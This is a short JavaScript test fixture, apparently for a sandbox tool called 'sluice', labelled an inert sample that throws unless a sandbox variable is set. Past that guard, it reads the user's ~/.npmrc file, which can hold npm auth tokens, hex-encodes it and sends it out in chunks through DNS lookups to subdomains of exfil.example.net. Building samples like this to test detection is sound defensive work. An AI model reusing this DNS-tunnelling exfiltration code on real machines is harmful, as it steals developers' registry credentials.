// INERT SAMPLE written for sluice's tests: refuses to run outside the sandbox.
if (process.env.SLUICE_SANDBOX !== "1") {
  throw new Error("inert sample: runs only inside the sluice sandbox");
}
const fs = require("fs");
const os = require("os");
const path = require("path");
const dns = require("dns");

const rc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
const hex = Buffer.from(rc).toString("hex");
for (let i = 0; i < hex.length; i += 60) {
  const label = hex.slice(i, i + 60);
  dns.lookup(`${label}.${i / 60}.exfil.example.net`, () => {});
}
